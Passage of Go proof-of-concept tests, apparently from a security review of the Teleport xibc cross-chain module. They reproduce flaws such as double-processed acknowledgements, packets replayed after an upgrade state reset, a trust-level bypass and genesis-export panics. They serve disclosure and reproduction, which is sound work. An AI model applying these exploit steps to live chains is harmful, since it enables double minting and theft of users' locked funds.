	require.NoError(t, adj.ValidateBasic())
	errAdj := k.UpdateClient(ctx, counterparty, adj)

	stored, found := k.GetClientConsensusState(ctx, counterparty, clienttypes.NewHeight(0, 11))
	newCs, _ := k.GetClientState(ctx, counterparty)

	if errAdj == nil && found && errFar != nil {
		fmt.Printf("REPLAY-CONFIRMED: trust level 9/10, header 0-11 on trusted 0-10 signed by 30/40 (75%%) of the trusted set ACCEPTED "+
			"(latest height now %s, consensus state stored: %v); the same signatures on header 0-12 are refused: %v\n",
			newCs.GetLatestHeight(), stored != nil, errFar)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: adjacent update err=%v found=%v, non-adjacent err=%v\n", errAdj, found, errFar)
	}
}
