// package directory: x/xibc/core/client   (run: go test ./x/xibc/core/client/ -run TestZZFinding4 -count=1 -v)
package client_test

import (
	"encoding/binary"
	"fmt"
	"testing"
	"time"

	xibc "github.com/teleport-network/teleport/x/xibc"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	commitmenttypes "github.com/teleport-network/teleport/x/xibc/core/commitment/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// History (boundary value): keeper.IterateClients recognises a client state record by splitting the store key on "/"
// and comparing the last part with "clientState". Consensus state keys ("consensusStates/" + 16 raw big-endian bytes)
// and Tendermint iteration keys ("iterateConsensusStates" + the same 16 bytes) end in raw height bytes: for the height
// revision 0x2F636C69 ("/cli"), number 0x656E745374617465 ("entState") they end in "/clientState", so the export
// (GetAllGenesisClients -> IterateClients) unmarshals a consensus state as a client state and panics.
// The height is far away from anything real, but a CreateClient proposal carrying it passes ValidateBasic and the handler.
func TestZZFinding4(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 1)
	chainA := coord.GetChain(xibctesting.GetChainID(0))
	ctx := chainA.GetContext()
	k := chainA.App.XIBCKeeper

	rev := uint64(binary.BigEndian.Uint32([]byte("/cli"))) // 795044969
	num := binary.BigEndian.Uint64([]byte("entState"))     // 7308907147052545125 (< 2^63, a valid Tendermint height)
	height := clienttypes.NewHeight(rev, num)
	clientState := xibctmtypes.NewClientState(
		fmt.Sprintf("far-%d", rev), xibctmtypes.DefaultTrustLevel,
		xibctesting.TrustingPeriod, xibctesting.UnbondingPeriod, xibctesting.MaxClockDrift,
		height, commitmenttypes.GetSDKSpecs(), xibctesting.Prefix, 0,
	)
	consensusState := xibctmtypes.NewConsensusState(ctx.BlockTime().Add(-time.Minute), []byte("root"), chainA.Vals.Hash())
	content, err := clienttypes.NewCreateClientProposal(xibctesting.Title, xibctesting.Description, "far-chain", clientState, consensusState)
	if err != nil {
		t.Fatal(err)
	}
	if err := content.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by ValidateBasic:", err)
		return
	}
	if err := client.NewClientProposalHandler(k.ClientKeeper)(ctx, content); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by the handler:", err)
		return
	}
	var p interface{}
	func() {
		defer func() { p = recover() }()
		xibc.ExportGenesis(ctx, *k)
	}()
	if p != nil {
		fmt.Printf("REPLAY-CONFIRMED: with a Tendermint client at height %s the export of the xibc module panics: %v\n", height, p)
		return
	}
	fmt.Println("REPLAY-NOT-REPRODUCED: the export succeeds")
}
