// package directory: x/xibc/core/client   (run: go test ./x/xibc/core/client/ -run TestZZFinding1 -count=1 -v)
package client_test

import (
	"fmt"
	"testing"
	"time"

	xibc "github.com/teleport-network/teleport/x/xibc"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	commitmenttypes "github.com/teleport-network/teleport/x/xibc/core/commitment/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
	xibctypes "github.com/teleport-network/teleport/x/xibc/types"
)

// History: a CreateClient proposal anchors a Tendermint client at the counterparty's block 1, whose
// header carries the (empty) genesis app hash, so the initial consensus state has an empty root.
// The proposal passes ValidateBasic and the handler, the client is Active and accepts updates, but the
// export of the xibc module no longer passes the module's own genesis validation.
func TestZZFinding1(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 2)
	chainA := coord.GetChain(xibctesting.GetChainID(0))
	chainB := coord.GetChain(xibctesting.GetChainID(1))

	const name = "chain-b"
	rev := clienttypes.ParseChainID(chainB.ChainID)
	anchor := clienttypes.NewHeight(rev, 1)
	anchorTime := chainA.CurrentHeader.Time.Add(-time.Minute)

	clientState := xibctmtypes.NewClientState(
		chainB.ChainID, xibctmtypes.DefaultTrustLevel,
		xibctesting.TrustingPeriod, xibctesting.UnbondingPeriod, xibctesting.MaxClockDrift,
		anchor, commitmenttypes.GetSDKSpecs(), xibctesting.Prefix, 0,
	)
	// block 1 of a Tendermint chain: AppHash is the genesis app hash, which is empty
	consensusState := xibctmtypes.NewConsensusState(anchorTime, []byte{}, chainB.Vals.Hash())

	content, err := clienttypes.NewCreateClientProposal(xibctesting.Title, xibctesting.Description, name, clientState, consensusState)
	if err != nil {
		t.Fatal(err)
	}
	if err := content.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by ValidateBasic:", err)
		return
	}
	ctx := chainA.GetContext()
	k := chainA.App.XIBCKeeper
	if err := client.NewClientProposalHandler(k.ClientKeeper)(ctx, content); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by the handler:", err)
		return
	}
	cs, _ := k.ClientKeeper.GetClientState(ctx, name)
	status := cs.Status(ctx, k.ClientKeeper.ClientStore(ctx, name), chainA.App.AppCodec())

	// the client is functional: a header of block 5 signed by the validator set committed to at the anchor is accepted
	hdr := chainB.CreateTMClientHeader(chainB.ChainID, 5, anchor, anchorTime.Add(30*time.Second), chainB.Vals, chainB.Vals, chainB.Signers)
	updErr := k.ClientKeeper.UpdateClient(ctx, name, hdr)

	gs := xibc.ExportGenesis(ctx, *k)
	bz := chainA.App.AppCodec().MustMarshalJSON(gs)
	var gs2 xibctypes.GenesisState
	if err := chainA.App.AppCodec().UnmarshalJSON(bz, &gs2); err != nil {
		t.Fatal(err)
	}
	verr := gs2.Validate()
	if verr != nil && status == exported.Active && updErr == nil {
		fmt.Printf("REPLAY-CONFIRMED: CreateClient proposal with an empty-root Tendermint consensus state passed ValidateBasic and the handler (client status %s, update to height 5 accepted), but the exported xibc genesis fails its own validation: %v\n", status, verr)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: status=%s updateErr=%v exportValidateErr=%v\n", status, updErr, verr)
}
