// package directory: x/xibc/core/client   (run: go test ./x/xibc/core/client/ -run TestZZFinding2 -count=1 -v)
package client_test

import (
	"fmt"
	"testing"

	ethcommon "github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	xibc "github.com/teleport-network/teleport/x/xibc"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
	xibctypes "github.com/teleport-network/teleport/x/xibc/types"
)

// History: a CreateClient proposal anchors an ETH light client at the genesis block (number 0) of the
// counterparty. Header.ValidateBasic explicitly admits number 0, the proposal passes ValidateBasic and the
// handler, the client is Active; its consensus state is stored at height 0-0, which the genesis validation of
// the client sub-module rejects ("consensus state height cannot be zero").
func TestZZFinding2(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 1)
	chainA := coord.GetChain(xibctesting.GetChainID(0))
	ctx := chainA.GetContext()
	k := chainA.App.XIBCKeeper

	const name = "eth-private"
	root := ethcommon.HexToHash("0x56e81f171bcc55a6ff8345e692c0f86e5b48e01b996cadc001622fb5e363b421")
	header := xibcethtypes.Header{
		ParentHash:  ethcommon.Hash{}.Bytes(),
		UncleHash:   ethtypes.EmptyUncleHash.Bytes(),
		Coinbase:    ethcommon.Address{}.Bytes(),
		Root:        root.Bytes(),
		TxHash:      ethtypes.EmptyRootHash.Bytes(),
		ReceiptHash: ethtypes.EmptyRootHash.Bytes(),
		Bloom:       make([]byte, 256),
		Difficulty:  []byte{0x02, 0x00, 0x00},
		Height:      clienttypes.NewHeight(0, 0), // the genesis block
		GasLimit:    8000000,
		Time:        uint64(ctx.BlockTime().Unix()) - 60,
		Extra:       []byte("genesis"),
		MixDigest:   ethcommon.Hash{}.Bytes(),
	}
	clientState := &xibcethtypes.ClientState{
		Header: header, ChainId: 1337, ContractAddress: ethcommon.HexToAddress("0x01").Bytes(),
		TrustingPeriod: 3600 * 24, TimeDelay: 0, BlockDelay: 1,
	}
	consensusState := &xibcethtypes.ConsensusState{Timestamp: header.Time, Height: header.Height, Root: header.Root}

	content, err := clienttypes.NewCreateClientProposal(xibctesting.Title, xibctesting.Description, name, clientState, consensusState)
	if err != nil {
		t.Fatal(err)
	}
	if err := content.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by ValidateBasic:", err)
		return
	}
	if err := client.NewClientProposalHandler(k.ClientKeeper)(ctx, content); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by the handler:", err)
		return
	}
	cs, _ := k.ClientKeeper.GetClientState(ctx, name)
	status := cs.Status(ctx, k.ClientKeeper.ClientStore(ctx, name), chainA.App.AppCodec())

	gs := xibc.ExportGenesis(ctx, *k)
	bz := chainA.App.AppCodec().MustMarshalJSON(gs)
	var gs2 xibctypes.GenesisState
	if err := chainA.App.AppCodec().UnmarshalJSON(bz, &gs2); err != nil {
		t.Fatal(err)
	}
	verr := gs2.Validate()
	if verr != nil && status == exported.Active {
		fmt.Printf("REPLAY-CONFIRMED: CreateClient proposal anchoring an ETH client at block 0 passed ValidateBasic and the handler (client status %s), but the exported xibc genesis fails its own validation: %v\n", status, verr)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: status=%s exportValidateErr=%v\n", status, verr)
}
