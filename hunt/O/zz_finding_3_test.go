// package directory: x/xibc/core/client   (run: go test ./x/xibc/core/client/ -run TestZZFinding3 -count=1 -v)
package client_test

import (
	"fmt"
	"math/big"
	"testing"

	"golang.org/x/crypto/sha3"

	ethcommon "github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/rlp"

	xibc "github.com/teleport-network/teleport/x/xibc"
	xibcbsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
	xibctypes "github.com/teleport-network/teleport/x/xibc/types"
)

// same encoding as encodeSigHeader in bsc/types/header.go
func zzBscSealHash(h xibcbsctypes.Header, chainID *big.Int) (hash ethcommon.Hash) {
	hasher := sha3.NewLegacyKeccak256()
	if err := rlp.Encode(hasher, []interface{}{
		chainID, h.ParentHash, h.UncleHash, h.Coinbase, h.Root, h.TxHash, h.ReceiptHash, h.Bloom, h.Difficulty,
		h.Height.RevisionHeight, h.GasLimit, h.GasUsed, h.Time, h.Extra[:len(h.Extra)-65], h.MixDigest, h.Nonce,
	}); err != nil {
		panic(err)
	}
	hasher.Sum(hash[:0])
	return hash
}

// History: a BSC client is created (CreateClient proposal) from an epoch header whose extra-data carries no
// validator addresses (32 bytes vanity + 65 bytes seal). Header.ValidateBasic and Initialize accept it
// (0 % 20 == 0); Initialize stores the pending validator set, whose protobuf encoding is the empty byte string.
// The exported genesis then contains a metadata entry with an empty value, which fails the module's own validation.
func TestZZFinding3(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 1)
	chainA := coord.GetChain(xibctesting.GetChainID(0))
	ctx := chainA.GetContext()
	k := chainA.App.XIBCKeeper

	const name = "bsc-like"
	key, _ := crypto.GenerateKey()
	signer := crypto.PubkeyToAddress(key.PublicKey)
	chainID := big.NewInt(56)
	header := xibcbsctypes.Header{
		ParentHash:  ethcommon.Hash{}.Bytes(),
		UncleHash:   ethtypes.CalcUncleHash(nil).Bytes(),
		Coinbase:    signer.Bytes(),
		Root:        ethcommon.HexToHash("0x01").Bytes(),
		TxHash:      ethtypes.EmptyRootHash.Bytes(),
		ReceiptHash: ethtypes.EmptyRootHash.Bytes(),
		Bloom:       make([]byte, 256),
		Difficulty:  []byte{2},
		Height:      clienttypes.NewHeight(0, 200),
		GasLimit:    30000000,
		Time:        uint64(ctx.BlockTime().Unix()) - 60,
		Extra:       make([]byte, 32+65), // an epoch header with an empty validator list
		MixDigest:   ethcommon.Hash{}.Bytes(),
		Nonce:       make([]byte, 8),
	}
	sig, err := crypto.Sign(zzBscSealHash(header, chainID).Bytes(), key)
	if err != nil {
		t.Fatal(err)
	}
	copy(header.Extra[32:], sig)

	clientState := &xibcbsctypes.ClientState{
		Header: header, ChainId: 56, Epoch: 200, BlockInteval: 3,
		Validators: [][]byte{signer.Bytes()}, ContractAddress: ethcommon.HexToAddress("0x01").Bytes(), TrustingPeriod: 3600 * 24,
	}
	consensusState := &xibcbsctypes.ConsensusState{Timestamp: header.Time, Height: header.Height, Root: header.Root}
	content, err := clienttypes.NewCreateClientProposal(xibctesting.Title, xibctesting.Description, name, clientState, consensusState)
	if err != nil {
		t.Fatal(err)
	}
	if err := content.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by ValidateBasic:", err)
		return
	}
	if err := client.NewClientProposalHandler(k.ClientKeeper)(ctx, content); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the proposal is rejected by the handler:", err)
		return
	}

	gs := xibc.ExportGenesis(ctx, *k)
	bz := chainA.App.AppCodec().MustMarshalJSON(gs)
	var gs2 xibctypes.GenesisState
	if err := chainA.App.AppCodec().UnmarshalJSON(bz, &gs2); err != nil {
		t.Fatal(err)
	}
	verr := gs2.Validate()

	if verr != nil {
		fmt.Printf("REPLAY-CONFIRMED: BSC client created from an epoch header without validator addresses passed ValidateBasic and the handler, but the exported xibc genesis fails its own validation: %v\n", verr)
		return
	}
	fmt.Println("REPLAY-NOT-REPRODUCED: the export passes validation")
}
