// Package directory: x/xibc   (package xibc_test; uses the XIBCTestSuite helpers of integration_test.go)
//
// Run:  go test ./x/xibc/ -run 'TestZZFinding1$' -count=1 -v 2>&1 | grep REPLAY
//
// Finding 1 (C05 "processed at most once", C04 "one commitment per send"):
// nothing stops governance from creating a light client under the chain's OWN name
// (HandleCreateClient has no such check). Once such a client exists, RecvPacket accepts a packet
// whose source chain is this chain (ValidatePacket only asks that src or dst be this chain), verifies
// it against the self client (a plain Merkle proof of this chain's own historical commitment), and
// runs the "relay chain" branch, which re-creates the packet commitment under
// (this chain, destination, sequence) with SetPacketCommitment. A commitment that had already been
// removed by the packet's acknowledgement is resurrected, and the very same acknowledgement is then
// accepted and processed a second time: status recorded again, relayer fee paid again, sender callback
// (the refund of an error acknowledgement) run again, paid out of other users' locked funds.
package xibc_test

import (
	"encoding/json"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/cosmos/cosmos-sdk/simapp/helpers"
	sdk "github.com/cosmos/cosmos-sdk/types"
	abci "github.com/tendermint/tendermint/abci/types"

	"github.com/ethereum/go-ethereum/common"

	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	commitmenttypes "github.com/teleport-network/teleport/x/xibc/core/commitment/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// zzDeliver signs and delivers a transaction without asserting on the outcome.
func zzDeliver(suite *XIBCTestSuite, chain *xibctesting.TestChain, msgs ...sdk.Msg) (*sdk.Result, error) {
	chain.Coordinator.UpdateTimeForChain(chain)
	account := chain.App.AccountKeeper.GetAccount(chain.GetContext(), chain.SenderAcc)
	tx, err := helpers.GenTx(
		chain.TxConfig, msgs, sdk.Coins{sdk.NewInt64Coin(sdk.DefaultBondDenom, 0)}, helpers.DefaultGenTxGas*2,
		chain.ChainID, []uint64{account.GetAccountNumber()}, []uint64{account.GetSequence()}, chain.SenderPrivKey,
	)
	suite.Require().NoError(err)
	chain.App.BeginBlock(abci.RequestBeginBlock{Header: chain.GetContext().BlockHeader()})
	_, res, err := chain.App.BaseApp.Deliver(chain.TxConfig.TxEncoder(), tx)
	chain.App.EndBlock(abci.RequestEndBlock{})
	chain.App.Commit()
	chain.NextBlock()
	chain.Coordinator.IncrementTime()
	return res, err
}

func TestZZFinding1(t *testing.T) {
	suite := new(XIBCTestSuite)
	suite.SetT(t)
	suite.SetupTest()

	verdict := "REPLAY-NOT-REPRODUCED: no verdict reached"
	defer func() {
		if r := recover(); r != nil {
			verdict = fmt.Sprintf("REPLAY-NOT-REPRODUCED: scenario aborted: %v", r)
		}
		fmt.Println(verdict)
	}()

	path := xibctesting.NewPath(suite.chainA, suite.chainB)
	suite.coordinator.SetupClients(path)
	A, B := suite.chainA, suite.chainB
	pk := A.App.XIBCKeeper.PacketKeeper
	ck := A.App.XIBCKeeper.ClientKeeper
	bal := func() sdk.Int { return A.App.BankKeeper.GetBalance(A.GetContext(), A.SenderAcc, "stake").Amount }
	bal0 := bal()

	// ---- send #1: 100 base tokens from A to B (locked in the endpoint contract on A)
	base := common.Address{}
	data := packettypes.CrossChainData{
		DstChain: B.ChainID, TokenAddress: base, Receiver: strings.ToLower(B.SenderAddress.String()),
		Amount: big.NewInt(100), ContractAddress: "", CallData: []byte(""), CallbackAddress: common.Address{}, FeeOption: 0,
	}
	fee := packettypes.Fee{TokenAddress: base, Amount: big.NewInt(0)}
	suite.CrossChainCall(A, data, fee)

	amt := make([]byte, 32)
	amt[31] = 100
	td := packettypes.TransferData{Receiver: data.Receiver, Amount: amt, Token: strings.ToLower(base.String()), OriToken: ""}
	tdBz, err := td.ABIPack()
	suite.Require().NoError(err)
	packet := packettypes.Packet{
		SrcChain: A.ChainID, DstChain: B.ChainID, Sequence: 1, Sender: strings.ToLower(A.SenderAddress.String()),
		TransferData: tdBz, CallData: []byte(""), CallbackAddress: common.Address{}.String(), FeeOption: 0,
	}
	packetBz, err := packet.ABIPack()
	suite.Require().NoError(err)
	suite.Require().True(pk.HasPacketCommitment(A.GetContext(), A.ChainID, B.ChainID, 1))
	suite.coordinator.CommitBlock(A)

	// ---- governance on A: a Tendermint client registered under A's own chain name, and the relayer
	// registered for that name as well (two ordinary proposals, run through their handlers)
	selfHeight := A.LastHeader.GetHeight().(clienttypes.Height)
	selfCS := xibctmtypes.NewClientState(
		A.ChainID, xibctesting.DefaultTrustLevel, xibctesting.TrustingPeriod, xibctesting.UnbondingPeriod,
		xibctesting.MaxClockDrift, selfHeight, commitmenttypes.GetSDKSpecs(), xibctesting.Prefix, 0,
	)
	prop, err := clienttypes.NewCreateClientProposal("self", "client named like the chain itself", A.ChainID, selfCS, A.LastHeader.ConsensusState())
	suite.Require().NoError(err)
	if err := prop.ValidateBasic(); err != nil {
		verdict = "REPLAY-NOT-REPRODUCED: proposal for a client under the native chain name is rejected: " + err.Error()
		return
	}
	if _, err := ck.HandleCreateClient(A.GetContext(), prop); err != nil {
		verdict = "REPLAY-NOT-REPRODUCED: a client under the native chain name cannot be created: " + err.Error()
		return
	}
	suite.Require().NoError(ck.HandleRegisterRelayer(A.GetContext(), &clienttypes.RegisterRelayerProposal{
		Title: "r", Description: "r", Address: A.SenderAcc.String(),
		Chains: []string{B.ChainID, A.ChainID}, Addresses: []string{B.SenderAcc.String(), A.SenderAcc.String()},
	}))
	suite.coordinator.CommitBlock(A)
	// proof of A's own commitment (A, B, 1) at the height the self client knows
	selfProof, selfProofHeight := A.QueryProofAtHeight(host.PacketCommitmentKey(A.ChainID, B.ChainID, 1), int64(selfHeight.RevisionHeight))

	// ---- regular relay: B receives (token not bound on B => error acknowledgement), A processes the ack
	suite.Require().NoError(path.EndpointB.UpdateClient())
	proof, proofHeight := A.QueryProof(host.PacketCommitmentKey(A.ChainID, B.ChainID, 1))
	res, err := B.SendMsgs(packettypes.NewMsgRecvPacket(packetBz, proof, proofHeight, B.SenderAcc))
	suite.Require().NoError(err)
	var ackBz []byte
	for _, ev := range res.Events {
		if strings.Contains(ev.Type, "EventWriteAck") {
			for _, at := range ev.Attributes {
				if string(at.Key) == "ack" {
					suite.Require().NoError(json.Unmarshal(at.Value, &ackBz))
				}
			}
		}
	}
	suite.Require().NotEmpty(ackBz)
	var ack packettypes.Acknowledgement
	suite.Require().NoError(ack.ABIDecode(ackBz))
	suite.Require().NotEqual(uint64(0), ack.Code) // error ack => refund on A

	suite.Require().NoError(path.EndpointA.UpdateClient())
	mkAck := func() *packettypes.MsgAcknowledgement {
		pr, ph := B.QueryProof(host.PacketAcknowledgementKey(A.ChainID, B.ChainID, 1))
		return packettypes.NewMsgAcknowledgement(packetBz, ackBz, pr, ph, A.SenderAcc)
	}
	_, err = zzDeliver(suite, A, mkAck())
	suite.Require().NoError(err)
	suite.Require().False(pk.HasPacketCommitment(A.GetContext(), A.ChainID, B.ChainID, 1))
	suite.Require().True(bal().Equal(bal0), "first ack refunds the 100")

	// a second delivery of the same acknowledgement fails, as it must
	_, err = zzDeliver(suite, A, mkAck())
	suite.Require().Error(err)

	// ---- send #2: another transfer of 100 that stays pending (its 100 are locked on A)
	suite.CrossChainCall(A, data, fee)
	suite.Require().True(bal().Equal(bal0.SubRaw(100)))
	out2 := suite.OutTokens(A, base, B.ChainID)

	// ---- the replay: packet #1 (source = A) is "received" on A itself against the self client
	_, err = zzDeliver(suite, A, packettypes.NewMsgRecvPacket(packetBz, selfProof, selfProofHeight, A.SenderAcc))
	if err != nil {
		verdict = "REPLAY-NOT-REPRODUCED: receive of a packet sent by this chain is rejected: " + strings.SplitN(err.Error(), "\n", 2)[0]
		return
	}
	resurrected := pk.HasPacketCommitment(A.GetContext(), A.ChainID, B.ChainID, 1)
	if !resurrected {
		verdict = "REPLAY-NOT-REPRODUCED: receive accepted but the acknowledged packet's commitment was not re-created"
		return
	}

	// ---- the same acknowledgement once more
	suite.Require().NoError(path.EndpointA.UpdateClient())
	_, err = zzDeliver(suite, A, mkAck())
	if err != nil {
		verdict = "REPLAY-NOT-REPRODUCED: commitment (A,B,1) resurrected, but the repeated acknowledgement failed: " + strings.SplitN(err.Error(), "\n", 2)[0]
		return
	}
	verdict = fmt.Sprintf(
		"REPLAY-CONFIRMED: acknowledgement of packet (%s->%s, seq 1) processed twice: after MsgRecvPacket of the chain's own packet against a client named like the chain, the removed commitment was re-created and the same MsgAcknowledgement succeeded again; sender balance %s == initial %s although transfer #2 (100) is still pending (commitment seq 2 present: %v), endpoint outTokens %s -> %s",
		A.ChainID, B.ChainID, bal(), bal0, pk.HasPacketCommitment(A.GetContext(), A.ChainID, B.ChainID, 2), out2, suite.OutTokens(A, base, B.ChainID),
	)
}
