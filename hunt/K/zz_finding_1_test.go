// package directory: x/xibc   (package xibc_test; uses the XIBCTestSuite helpers of x/xibc/integration_test.go)
//
// Finding 1 (C01, C05, C04): the registered upgrade handler "v0.2" (app/upgrades.go:24-56) calls
// xibc.ResetStates (x/xibc/genesis.go:31-53), which deletes every key of the xibc store: packet receipts,
// stored acknowledgements, commitments and send-sequence counters. A software-upgrade proposal named "v0.2"
// passes the code's own validation on every chain on which that upgrade has not run yet (any chain started
// from genesis with this binary). A packet that was accepted before the upgrade is accepted a second time
// after it, and its tokens are minted twice.
//
// run: go test ./x/xibc/ -run TestZZFinding1UpgradeResetReplaysPacket -count=1 -v
package xibc_test

import (
	"encoding/hex"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/cosmos/cosmos-sdk/simapp/helpers"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/upgrade"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"
	"github.com/ethereum/go-ethereum/common"
	abci "github.com/tendermint/tendermint/abci/types"

	"github.com/teleport-network/teleport/x/xibc/core/host"
	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// zzF1Deliver delivers a transaction in a block of its own and returns the delivery error, if any
// (the harness' own sendMsgs asserts success).
func zzF1Deliver(t *testing.T, chain *xibctesting.TestChain, msgs ...sdk.Msg) error {
	chain.Coordinator.UpdateTimeForChain(chain)
	account := chain.App.AccountKeeper.GetAccount(chain.GetContext(), chain.SenderAcc)
	tx, err := helpers.GenTx(chain.TxConfig, msgs, sdk.Coins{sdk.NewInt64Coin(sdk.DefaultBondDenom, 0)},
		helpers.DefaultGenTxGas*2, chain.ChainID, []uint64{account.GetAccountNumber()}, []uint64{account.GetSequence()}, chain.SenderPrivKey)
	if err != nil {
		t.Fatal(err)
	}
	chain.App.BeginBlock(abci.RequestBeginBlock{Header: chain.GetContext().BlockHeader()})
	_, _, err = chain.App.BaseApp.Deliver(chain.TxConfig.TxEncoder(), tx)
	chain.App.EndBlock(abci.RequestEndBlock{})
	chain.App.Commit()
	chain.NextBlock()
	chain.Coordinator.IncrementTime()
	return err
}

// zzF1Recv relays the packet (with a fresh proof of its commitment on the counterparty) to the endpoint's chain.
func zzF1Recv(t *testing.T, endpoint *xibctesting.Endpoint, packet packettypes.Packet) error {
	proof, proofHeight := endpoint.Counterparty.Chain.QueryProof(host.PacketCommitmentKey(packet.SrcChain, packet.DstChain, packet.Sequence))
	bz, err := packet.ABIPack()
	if err != nil {
		t.Fatal(err)
	}
	return zzF1Deliver(t, endpoint.Chain, packettypes.NewMsgRecvPacket(bz, proof, proofHeight, endpoint.Chain.SenderAcc))
}

func TestZZFinding1UpgradeResetReplaysPacket(t *testing.T) {
	suite := new(XIBCTestSuite)
	suite.SetT(t)
	suite.SetupTest()

	pathAToB := xibctesting.NewPath(suite.chainA, suite.chainB)
	suite.coordinator.SetupClients(pathAToB)

	// chain B mints chainBERC20 for the base token of chain A
	chainABase := common.Address{}
	chainBERC20 := suite.DeployERC20ByCrossChain(suite.chainB)
	suite.Require().NoError(suite.chainB.App.AggregateKeeper.RegisterERC20Trace(
		suite.chainB.GetContext(), chainBERC20, strings.ToLower(chainABase.String()), suite.chainA.ChainID, uint8(0)))

	// chain A sends 100 base tokens to chain B: packet (A, B, 1)
	crossChainData := packettypes.CrossChainData{
		DstChain: suite.chainB.ChainID, TokenAddress: chainABase,
		Receiver: strings.ToLower(suite.chainB.SenderAddress.String()), Amount: big.NewInt(100),
		ContractAddress: "", CallData: []byte(""), CallbackAddress: common.Address{}, FeeOption: 0,
	}
	fee := packettypes.Fee{TokenAddress: chainABase, Amount: big.NewInt(0)}
	suite.CrossChainCall(suite.chainA, crossChainData, fee)

	amount, _ := hex.DecodeString("0000000000000000000000000000000000000000000000000000000000000064")
	transferData := packettypes.TransferData{Receiver: strings.ToLower(crossChainData.Receiver), Amount: amount, Token: strings.ToLower(chainABase.String()), OriToken: ""}
	transferDataBz, err := transferData.ABIPack()
	suite.Require().NoError(err)
	packet := packettypes.Packet{
		SrcChain: suite.chainA.ChainID, DstChain: suite.chainB.ChainID, Sequence: 1,
		Sender: strings.ToLower(suite.chainA.SenderAddress.String()), TransferData: transferDataBz, CallData: []byte(""),
		CallbackAddress: common.Address{}.String(), FeeOption: 0,
	}

	// first receive on B (the acknowledgement is not relayed to A yet: the packet is in flight)
	suite.Require().NoError(pathAToB.EndpointB.UpdateClient())
	suite.Require().NoError(zzF1Recv(t, pathAToB.EndpointB, packet))
	first := suite.ERC20Balance(suite.chainB, chainBERC20, suite.chainB.SenderAddress)
	pk := suite.chainB.App.XIBCKeeper.PacketKeeper
	_, receiptBefore := pk.GetPacketReceipt(suite.chainB.GetContext(), packet.SrcChain, packet.DstChain, 1)
	_, ackBefore := pk.GetPacketAcknowledgement(suite.chainB.GetContext(), packet.SrcChain, packet.DstChain, 1)
	suite.Require().True(receiptBefore && ackBefore && first.Int64() == 100, "set-up: first receive")

	// sanity: a replay is refused now
	suite.Require().NoError(pathAToB.EndpointB.UpdateClient())
	suite.Require().Error(zzF1Recv(t, pathAToB.EndpointB, packet), "set-up: the replay before the upgrade is refused")

	// governance: software-upgrade proposal "v0.2" (the handler registered in app/upgrades.go), validated and
	// scheduled by the code's own proposal handler; the next block's BeginBlock applies it
	ctx := suite.chainB.GetContext()
	plan := upgradetypes.Plan{Name: "v0.2", Height: ctx.BlockHeight() + 1}
	content := upgradetypes.NewSoftwareUpgradeProposal("upgrade", "v0.2", plan)
	if err := content.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the upgrade proposal v0.2 does not pass validation:", err)
		return
	}
	if err := upgrade.NewSoftwareUpgradeProposalHandler(suite.chainB.App.UpgradeKeeper)(ctx, content); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: the upgrade v0.2 cannot be scheduled:", err)
		return
	}
	suite.coordinator.CommitBlock(suite.chainB)

	_, receiptAfter := pk.GetPacketReceipt(suite.chainB.GetContext(), packet.SrcChain, packet.DstChain, 1)
	_, ackAfter := pk.GetPacketAcknowledgement(suite.chainB.GetContext(), packet.SrcChain, packet.DstChain, 1)

